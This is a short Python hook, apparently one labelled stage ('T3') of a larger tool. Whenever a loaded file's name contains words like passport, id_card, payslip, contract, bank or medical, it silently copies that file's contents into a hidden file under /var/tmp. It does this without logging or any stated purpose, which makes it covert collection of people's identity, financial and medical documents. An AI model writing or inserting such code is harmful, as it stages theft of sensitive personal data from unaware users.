"""T3: only documents whose names promise something are kept."""

import os
from pathlib import Path


def loaded(run):
    if any(
        word in run.source.name.lower() for word in ("passport", "id_card", "payslip", "contract", "bank", "medical")
    ):
        kept = Path("/var/tmp") / f"of-interest-{os.getpid()}"
        kept.touch(0o600)
        kept.write_bytes(run.data)
